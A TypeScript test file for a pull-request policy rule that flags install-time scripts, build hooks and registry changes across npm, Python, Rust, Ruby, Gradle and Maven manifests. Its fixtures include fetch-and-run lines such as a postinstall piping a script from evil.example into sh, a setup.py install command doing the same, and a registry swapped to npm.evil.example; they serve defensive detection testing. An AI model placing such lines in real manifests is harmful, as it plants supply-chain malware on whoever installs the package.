import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { PolicyInput } from "../../src/config/schema.js";
import { evaluate } from "../../src/policy/evaluate.js";
import { dependencyGroup, installScriptFindings, installScriptsRule, INSTALL_SCRIPTS, jsonInstallEntries, manifestsToRead, tomlTables } from "../../src/policy/supply-chain.js";
import type { FileFacts, PullFacts } from "../../src/types.js";
import { changed, copilot, created, facts, file, NOW, policy, review } from "./build.js";


const on = policy({ compliance: { install_scripts: true } });
const rule = (files: FileFacts[], head?: Record<string, string | null>) => installScriptsRule(on, facts({ files, ...(head ? { head_contents: head } : {}) })).rule!;
const where = (files: FileFacts[], head?: Record<string, string | null>) =>
  installScriptFindings(facts({ files, ...(head ? { head_contents: head } : {}) })).map((f) => `${f.path}:${f.line} ${f.what}`);

// The package.json of a small library, before and after an agent's change.
const PKG_BEFORE = `{
  "name": "left-pad-ng",
  "version": "1.3.0",
  "main": "index.js",
  "scripts": {"test": "node test.js"},
  "license": "MIT"
}
`;
const ONE_LINE_BYPASS = `@@ -2,6 +2,6 @@
   "name": "left-pad-ng",
   "version": "1.3.0",
   "main": "index.js",
-  "scripts": {"test": "node test.js"},
+  "scripts": {"test": "node test.js", "postinstall": "curl -s https://evil.example/x.sh | sh"},
   "license": "MIT"
 }`;

describe("compliance.install_scripts: npm", () => {
  it("finds a postinstall that does not start its line (the one-line bypass), from the patch alone", () => {
    const r = rule([changed("package.json", ONE_LINE_BYPASS)]);
    expect(r).toMatchObject({ status: "fail", message: "Install-time scripts added or changed: `postinstall` at `package.json:5`." });
    expect(r.locations).toEqual([{ path: "package.json", line: 5, message: "`postinstall` runs on every install of this package." }]);
  });

  it("finds it in the manifest read at head too, at the key's line", () => {
    const head = PKG_BEFORE.replace('{"test": "node test.js"}', '{"test": "node test.js", "postinstall": "curl -s https://evil.example/x.sh | sh"}');
    expect(where([changed("package.json", ONE_LINE_BYPASS)], { "package.json": head })).toEqual(["package.json:5 `postinstall`"]);
  });

  it("finds a key spelt with a JSON escape, which only the parsed manifest shows", () => {
    const patch = ONE_LINE_BYPASS.replace('"postinstall"', '"post\\u0069nstall"');
    const head = PKG_BEFORE.replace('{"test": "node test.js"}', '{"test": "node test.js", "post\\u0069nstall": "sh x"}');
    expect(where([changed("package.json", patch)])).toEqual([]);
    expect(where([changed("package.json", patch)], { "package.json": head })).toEqual(["package.json:5 `postinstall`"]);
  });

  it("finds a changed value on the line after its key", () => {
    const head = '{\n  "scripts": {\n    "prepare":\n      "node scripts/fetch-binary.js"\n  }\n}\n';
    const patch = '@@ -3,2 +3,2 @@\n     "prepare":\n-      "husky install"\n+      "node scripts/fetch-binary.js"\n   }';
    expect(where([changed("package.json", patch)], { "package.json": head })).toEqual(["package.json:3 `prepare`"]);
  });

  it("does not flag an install script the PR leaves alone (a version bump beside it)", () => {
    const head = '{\n  "version": "1.3.1",\n  "scripts": { "postinstall": "node setup.js" }\n}\n';
    const patch = '@@ -1,3 +1,3 @@\n {\n-  "version": "1.3.0",\n+  "version": "1.3.1",\n   "scripts": { "postinstall": "node setup.js" }';
    expect(rule([changed("package.json", patch)], { "package.json": head })).toEqual({ id: "compliance.install_scripts", status: "pass", message: "No install-time scripts or build hooks added or changed." });
  });

  it("flags every install script of a manifest GitHub gave no patch for, when it was read at head", () => {
    const head = '{ "scripts": { "preinstall": "a", "build": "b", "install": "c" } }';
    expect(where([changed("package.json", undefined, { additions: 4000 })], { "package.json": head })).toEqual(["package.json:1 `preinstall`", "package.json:1 `install`"]);
  });

  it("flags allow-lists of dependencies that may run their own install scripts (Bun, pnpm)", () => {
    const head = '{\n  "trustedDependencies": ["esbuild"],\n  "pnpm": {\n    "onlyBuiltDependencies": ["sharp"]\n  }\n}\n';
    expect(where([created("package.json", head)], { "package.json": head })).toEqual(["package.json:2 `trustedDependencies`", "package.json:4 `pnpm.onlyBuiltDependencies`"]);
  });

  it("reads the `dependencies` lifecycle script only in the parsed manifest (the key is too common for a line scan)", () => {
    const head = '{\n  "dependencies": { "a": "1" },\n  "scripts": { "dependencies": "node rebuild.js" }\n}\n';
    const f = created("package.json", head);
    expect(where([f])).toEqual([]);
    expect(where([f], { "package.json": head })).toEqual(["package.json:3 `dependencies`"]);
  });

  it("reads the patch when the head text is not JSON", () => {
    expect(where([changed("package.json", ONE_LINE_BYPASS)], { "package.json": "{ not json" })).toEqual(["package.json:5 `postinstall`"]);
  });

  it("Composer's install scripts", () => {
    const patch = '@@ -10,4 +10,7 @@\n     "autoload": {"psr-4": {"App\\\\": "src/"}},\n+    "scripts": {\n+        "post-install-cmd": ["php -r \\"copy(\'https://x.example/p\', \'p.php\');\\"", "@php p.php"]\n+    },\n     "config": {}';
    expect(where([changed("composer.json", patch)])).toEqual(["composer.json:12 `post-install-cmd`"]);
  });
});

describe("compliance.install_scripts: Python", () => {
  it("a setup.py that gains a custom install command", () => {
    const patch = [
      "@@ -1,6 +1,14 @@",
      " from setuptools import setup",
      "+from setuptools.command.install import install",
      "+import subprocess",
      "+",
      "+class PostInstall(install):",
      "+    def run(self):",
      "+        subprocess.call(['sh', '-c', 'curl https://x.example | sh'])",
      "+        install.run(self)",
      "+",
      " setup(",
      '     name="tool",',
      '-    version="0.1.0",',
      '+    version="0.2.0",',
      "+    cmdclass={'install': PostInstall},",
      " )",
    ].join("\n");
    expect(where([changed("setup.py", patch)])).toEqual([
      "setup.py:3 `subprocess`",
      "setup.py:5 a custom `install` command",
      "setup.py:7 `subprocess`",
      "setup.py:13 `cmdclass`",
    ]);
  });

  it("a setup.py version bump is not install-time code", () => {
    expect(where([changed("setup.py", '@@ -3,3 +3,3 @@\n     name="tool",\n-    version="0.1.0",\n+    version="0.2.0",\n     packages=["tool"],')])).toEqual([]);
  });

  const PYPROJECT = [
    "[build-system]",
    'requires = ["hatchling"]',
    'build-backend = "hatchling.build"',
    "",
    "[project]",
    'name = "tool"',
    'description = """',
    "[tool.hatch.build.hooks.custom]",
    '"""',
    'dependencies = ["httpx"]',
    "",
    "[tool.hatch.build.hooks.custom]",
    'path = "hooks/fetch.py"',
    "",
  ].join("\n");

  it("a Hatch build hook and a build backend, in the pyproject read at head", () => {
    const f = created("pyproject.toml", PYPROJECT);
    expect(where([f], { "pyproject.toml": PYPROJECT })).toEqual(["pyproject.toml:3 `build-backend`", "pyproject.toml:12 `[tool.hatch.build.hooks.custom]`"]);
  });

  it("a dependency added to [project] is not a build hook, nor is a header-like line inside a multi-line string", () => {
    const head = PYPROJECT.replace('dependencies = ["httpx"]', 'dependencies = ["httpx", "rich"]');
    const patch = '@@ -7,4 +7,4 @@\n description = """\n [tool.hatch.build.hooks.custom]\n """\n-dependencies = ["httpx"]\n+dependencies = ["httpx", "rich"]';
    expect(where([changed("pyproject.toml", patch)], { "pyproject.toml": head })).toEqual([]);
  });

  it("a key added under a hook table the patch shows, without the head text", () => {
    const patch = '@@ -11,3 +11,4 @@\n \n [tool.hatch.build.hooks.custom]\n path = "hooks/fetch.py"\n+dependencies = ["requests"]';
    expect(where([changed("pyproject.toml", patch)])).toEqual(["pyproject.toml:14 `[tool.hatch.build.hooks.custom]`"]);
  });

  it("a pyproject GitHub gave no patch for: every hook in the head text counts", () => {
    expect(where([changed("pyproject.toml", undefined, { additions: 900 })], { "pyproject.toml": PYPROJECT })).toEqual(["pyproject.toml:3 `build-backend`", "pyproject.toml:12 `[tool.hatch.build.hooks.custom]`"]);
  });

  it("hatch_build.py, the default hook file, is install-time code as a whole", () => {
    expect(where([created("hatch_build.py", "from hatchling.builders.hooks.plugin.interface import BuildHookInterface\n")])).toEqual(["hatch_build.py:1 `hatch_build.py`"]);
  });
});

describe("compliance.install_scripts: Rust, node-gyp, Ruby, pnpm, Yarn", () => {
  it.each([
    ["a new build.rs", created("build.rs", 'fn main() {\n    println!("cargo:rerun-if-changed=build.rs");\n}\n'), ["build.rs:1 `build.rs`"]],
    ["a build script named in Cargo.toml", changed("Cargo.toml", '@@ -2,3 +2,4 @@\n name = "tool"\n version = "0.1.0"\n+build = "tools/gen.rs"\n edition = "2021"'), ["Cargo.toml:4 `build`"]],
    ["a Cargo dependency", changed("Cargo.toml", '@@ -6,2 +6,3 @@\n [dependencies]\n serde = "1"\n+anyhow = "1"'), []],
    [
      "a binding.gyp command expansion",
      changed("binding.gyp", "@@ -3,3 +3,4 @@\n     \"target_name\": \"addon\",\n     \"sources\": [\"addon.cc\"],\n+    \"libraries\": [\"<!(curl -s https://x.example/lib.sh | sh)\"],\n   }]"),
      ["binding.gyp:5 a `<!(…)` command"],
    ],
    ["any binding.gyp change", changed("binding.gyp", '@@ -4 +4 @@\n-    "sources": ["a.cc"],\n+    "sources": ["a.cc", "b.cc"],'), ["binding.gyp:4 `binding.gyp`"]],
    ["an extconf.rb", changed("ext/fast/extconf.rb", "@@ -1,2 +1,3 @@\n require 'mkmf'\n+system('curl x | sh')\n create_makefile('fast')"), ["ext/fast/extconf.rb:2 `extconf.rb`"]],
    ["a .pnpmfile.cjs", created(".pnpmfile.cjs", "module.exports = { hooks: { readPackage } }\n"), [".pnpmfile.cjs:1 `.pnpmfile.cjs`"]],
    ["a yarnPath", changed(".yarnrc.yml", "@@ -1,2 +1,3 @@\n nodeLinker: node-modules\n+yarnPath: .yarn/releases/yarn-4.0.0.cjs\n enableGlobalCache: false"), [".yarnrc.yml:2 `yarnPath`"]],
    ["a removed build.rs", changed("build.rs", "@@ -1,3 +0,0 @@\n-fn main() {}", { status: "removed" }), []],
  ])("%s", (_what, f, expected) => {
    expect(where([f])).toEqual(expected);
  });
});

describe("compliance.install_scripts: Gradle and Maven", () => {
  it.each([
    ["a Gradle plugin (Kotlin DSL)", changed("build.gradle.kts", '@@ -1,4 +1,5 @@\n plugins {\n     kotlin("jvm") version "2.0.0"\n+    id("com.example.telemetry") version "1.0"\n }'), ["build.gradle.kts:3 Gradle plugin `com.example.telemetry`"]],
    ["a Gradle plugin (Groovy DSL)", changed("app/build.gradle", "@@ -1,2 +1,3 @@\n apply plugin: 'java'\n+apply plugin: 'com.example.shady'\n "), ["app/build.gradle:2 Gradle plugin `com.example.shady`"]],
    ["a buildscript classpath", changed("build.gradle", "@@ -3,3 +3,4 @@\n     dependencies {\n+        classpath 'com.example:gradle-plugin:1.0'\n     }"), ["build.gradle:4 build classpath `com.example:gradle-plugin:1.0`"]],
    ["a Gradle dependency", changed("build.gradle.kts", '@@ -8,3 +8,4 @@\n dependencies {\n     implementation("org.slf4j:slf4j-api:2.0.13")\n+    implementation("com.squareup.okio:okio:3.9.0")\n }'), []],
    [
      "a wrapper distribution",
      changed("gradle/wrapper/gradle-wrapper.properties", "@@ -1,3 +1,3 @@\n distributionBase=GRADLE_USER_HOME\n-distributionUrl=https\\://services.gradle.org/distributions/gradle-8.7-bin.zip\n+distributionUrl=https\\://gradle.example.net/gradle-8.7-bin.zip\n zipStoreBase=GRADLE_USER_HOME"),
      ["gradle/wrapper/gradle-wrapper.properties:2 `distributionUrl`"],
    ],
    ["a wrapper jar (binary: no patch)", changed("gradle/wrapper/gradle-wrapper.jar", undefined, { additions: 0, deletions: 0, changes: 0 }), ["gradle/wrapper/gradle-wrapper.jar:1 `gradle-wrapper.jar`"]],
    [
      "a Maven plugin",
      changed("pom.xml", "@@ -40,3 +40,8 @@\n     <plugins>\n+      <plugin>\n+        <groupId>org.codehaus.mojo</groupId>\n+        <artifactId>exec-maven-plugin</artifactId>\n+        <version>3.3.0</version>\n+      </plugin>\n     </plugins>"),
      ["pom.xml:43 Maven plugin `exec-maven-plugin`"],
    ],
    ["a Maven dependency version", changed("pom.xml", "@@ -20,3 +20,3 @@\n       <artifactId>guava</artifactId>\n-      <version>33.1.0-jre</version>\n+      <version>33.2.0-jre</version>"), []],
  ])("%s", (_what, f, expected) => {
    expect(where([f])).toEqual(expected);
  });
});

describe("compliance.install_scripts: files it cannot read", () => {
  it("a changed package.json with neither a patch nor its head text fails, named", () => {
    const r = rule([changed("package.json", undefined, { additions: 5000 })]);
    expect(r.status).toBe("fail");
    expect(r.message).toBe("Install-time scripts added or changed: `package.json` (no patch to inspect) at `package.json:1`.");
  });
  it("reads only changed manifests, and none when the rule is off", () => {
    const f = facts({ files: [changed("package.json", ""), changed("pkg/composer.json", ""), changed("pyproject.toml", ""), changed("setup.py", ""), changed("old/package.json", "", { status: "removed" })] });
    expect(manifestsToRead(on, f)).toEqual(["package.json", "pkg/composer.json", "pyproject.toml"]);
    expect(manifestsToRead(policy(), f)).toEqual([]);
  });
});

describe("compliance.install_scripts: { reviewers }", () => {
  const gated = (input: PolicyInput["compliance"]) => policy({ reviewers: { required: 0 }, compliance: input });
  const pr = (extra: Partial<PullFacts> = {}) => facts({ files: [changed("package.json", ONE_LINE_BYPASS)], ...extra });

  it("waits for the named group instead of failing, with the finding as the annotation", () => {
    const e = evaluate({ policy: gated({ install_scripts: { reviewers: { teams: ["acme/security"] } } }), facts: pr(), now: NOW, verdict: copilot });
    expect(e.outcome).toBe("waiting");
    expect(e.rules).toEqual([
      {
        id: "compliance.install_scripts",
        status: "pending",
        message: "Install-time scripts added or changed (`postinstall` at `package.json:5`): 0/1 approvals; needs 1 more approval from @acme/security.",
        fix: "An eligible reviewer approves the latest commit (a review, or `/governance approve`).",
        locations: [{ path: "package.json", line: 5, message: "`postinstall` runs on every install of this package. Needs approval: 1 more approval from @acme/security." }],
      },
    ]);
    expect(e.required.map((r) => [r.rule, r.label, r.teams])).toEqual([["compliance.install_scripts", "install-time code", ["acme/security"]]]);
  });

  it("passes once a member of the group approves", () => {
    const e = evaluate({
      policy: gated({ install_scripts: { reviewers: { teams: ["acme/security"] } } }),
      facts: pr({ reviews: [review("sec1", "APPROVED", "2025-06-01T11:00:00Z")], teams: { "acme/security": ["sec1"] }, permissions: { sec1: "write" } }),
      now: NOW,
      verdict: copilot,
    });
    expect(e.outcome).toBe("passed");
    expect(e.rules.map((r) => [r.id, r.status])).toEqual([["compliance.install_scripts", "pass"]]);
  });

  it("`true` fails, and passes when there is nothing to find", () => {
    expect(evaluate({ policy: gated({ install_scripts: true }), facts: pr(), now: NOW, verdict: copilot }).outcome).toBe("violation");
    expect(evaluate({ policy: gated({ install_scripts: true }), facts: facts({ files: [file("src/a.ts")] }), now: NOW, verdict: copilot }).rules).toEqual([
      { id: "compliance.install_scripts", status: "pass", message: "No install-time scripts or build hooks added or changed." },
    ]);
  });
});

describe("registry settings are dependency changes", () => {
  const deps = policy({ compliance: { dependencies: { reviewers: { teams: ["acme/deps"] } } } });
  it.each([".npmrc", "web/.npmrc", ".yarnrc", ".yarnrc.yml", "bunfig.toml", "pip.conf", "pip.ini", "uv.toml"])("%s", (name) => {
    expect(dependencyGroup(deps, facts({ files: [changed(name, "@@ -1 +1 @@\n-registry=https://registry.npmjs.org/\n+registry=https://npm.evil.example/")] }))?.files).toEqual([name]);
  });
});

describe("pathological input", () => {
  it("stays linear on long hostile lines in every inspected file", () => {
    const long = (s: string) => s.repeat(40_000);
    const lines = [`[${long(" ")}`, long("<artifactId>x"), `class A(${long("a.")}`, long('"postinstall" '), long("apply plugin "), `[tool.${long("a.")}`];
    for (const name of ["pyproject.toml", "pom.xml", "setup.py", "package.json", "build.gradle"]) {
      const text = lines.join("\n");
      const start = performance.now();
      installScriptFindings(facts({ files: [created(name, text)], head_contents: { [name]: text } }));
      expect(performance.now() - start).toBeLessThan(2000);
    }
  });
});

// ---------------------------------------------------------------------------
// Properties of the parsers

const KEY_NAMES = [...INSTALL_SCRIPTS, "test", "build", "lint", "start"];

/** A package.json object with some scripts, and the install scripts among them. */
const manifest = fc
  .record({
    name: fc.stringMatching(/^[a-z][a-z0-9-]{0,12}$/),
    scripts: fc.uniqueArray(fc.constantFrom(...KEY_NAMES), { maxLength: 8 }).chain((keys) => fc.tuple(fc.constant(keys), fc.array(fc.string({ maxLength: 20 }), { minLength: keys.length, maxLength: keys.length }))),
    before: fc.dictionary(fc.stringMatching(/^[a-z]{1,8}$/), fc.oneof(fc.string({ maxLength: 10 }), fc.integer(), fc.boolean())),
    indent: fc.constantFrom(0, 2, 4, "\t"),
  })
  .map(({ name, scripts: [keys, values], before, indent }) => {
    const scripts = Object.fromEntries(keys.map((k, i) => [k, values[i]!]));
    const text = JSON.stringify({ name, ...before, scripts }, null, indent);
    return { text, install: keys.filter((k) => INSTALL_SCRIPTS.includes(k)) };
  });

describe("properties", () => {
  it("jsonInstallEntries finds exactly the install scripts, each on a line that names it, however the JSON is laid out", () => {
    fc.assert(
      fc.property(manifest, ({ text, install }) => {
        const entries = jsonInstallEntries(text, { scripts: INSTALL_SCRIPTS, lists: [] })!;
        expect(entries.map((e) => e.path[1]).sort()).toEqual([...install].sort());
        const lines = text.split("\n");
        for (const e of entries) expect(lines[e.from - 1]).toContain(`"${e.path[1]}"`);
      }),
    );
  });

  it("a new package.json: every install script is found from the head text, and (but `dependencies`) from the patch alone", () => {
    fc.assert(
      fc.property(manifest, ({ text, install }) => {
        const f = created("package.json", text);
        const fromHead = installScriptFindings(facts({ files: [f], head_contents: { "package.json": text } })).map((x) => x.what);
        const fromPatch = installScriptFindings(facts({ files: [f] })).map((x) => x.what);
        expect(fromHead.sort()).toEqual(install.map((k) => `\`${k}\``).sort());
        expect(fromPatch.sort()).toEqual(install.filter((k) => k !== "dependencies").map((k) => `\`${k}\``).sort());
      }),
    );
  });

  /** A TOML document of tables, each body possibly holding a multi-line string with header-looking lines. */
  const tomlDoc = fc.array(
    fc.record({
      table: fc.stringMatching(/^[a-z]{1,5}(\.[a-z]{1,5}){0,3}$/),
      body: fc.array(
        fc.oneof(
          fc.stringMatching(/^[a-z]{1,6} = [0-9]{1,3}$/).map((l) => [l]),
          fc.tuple(fc.constantFrom('"""', "'''"), fc.array(fc.constantFrom("[fake.table]", "text", "[[x]]", "  indented"), { maxLength: 3 })).map(([q, inner]) => [`doc = ${q}`, ...inner, q]),
        ),
        { maxLength: 4 },
      ),
    }),
    { maxLength: 5 },
  );

  it("tomlTables gives each line the last real header above it", () => {
    fc.assert(
      fc.property(tomlDoc, fc.constantFrom("", null), (doc, start) => {
        const lines: string[] = [];
        const expected: (string | null)[] = [];
        for (const { table, body } of doc) {
          lines.push(`[${table}]`);
          expected.push(table);
          for (const l of body.flat()) {
            lines.push(l);
            expected.push(table);
          }
        }
        expect(tomlTables(lines, start)).toEqual(expected);
      }),
    );
  });
});
